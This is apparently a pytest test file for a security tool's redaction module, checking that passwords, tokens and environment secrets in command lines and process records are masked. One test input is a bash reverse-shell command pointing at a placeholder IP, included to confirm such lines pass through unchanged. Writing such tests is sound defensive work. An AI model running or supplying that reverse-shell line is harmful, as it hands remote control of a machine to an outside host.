from __future__ import annotations

import orjson
import pytest

from shellwatch.core.redact import mask_command_line, mask_document


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl -u bob:hunter2 https://x", "curl -u bob:**** https://x"),
        ("curl -ubob:hunter2 https://x", "curl -ubob:**** https://x"),
        ("curl --user=bob:hunter2 x", "curl --user=bob:**** x"),
        ("mysql --password=s3cret -h db", "mysql --password=**** -h db"),
        ("tool --token abc.def", "tool --token ****"),
        ("git clone https://bob:tok@github.example/x.git", "git clone https://bob:****@github.example/x.git"),
        ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
        ("curl -u bob https://x", "curl -u bob https://x"),
    ],
)
def test_command_lines(text: str, expected: str) -> None:
    assert mask_command_line(text) == expected


def test_document_masking_keeps_numbers_and_names() -> None:
    raw = (
        b'{"process":{"env_vars":["JAVA_HOME=/opt/jdk","DB_PASSWORD=x"],"args":["curl","-u","a:b"],'
        b'"pid":1.50,"big":123456789012345678901234567890},"process.parent.command_line":"x --password p"}'
    )
    masked = orjson.loads(mask_document(raw).replace(b"1.50", b"1.5"))
    assert masked["process"]["env_vars"] == ["JAVA_HOME=[REDACTED]", "DB_PASSWORD=[REDACTED]"]
    assert masked["process"]["args"] == ["curl", "-u", "a:****"]
    assert masked["process.parent.command_line"] == "x --password ****"
    assert b'"pid":1.50' in mask_document(raw)
    assert b"123456789012345678901234567890" in mask_document(raw)


def test_documents_without_secrets_are_byte_identical() -> None:
    raw = b'{ "process" : { "args" : ["/bin/bash", "-c", "id"], "n": 1.0e3 } }'
    assert mask_document(raw) is raw


def test_lone_surrogates_survive() -> None:
    raw = b'{"process":{"env_vars":["A=\\ud800"],"name":"\\ud800x"}}'
    assert b"[REDACTED]" in mask_document(raw)
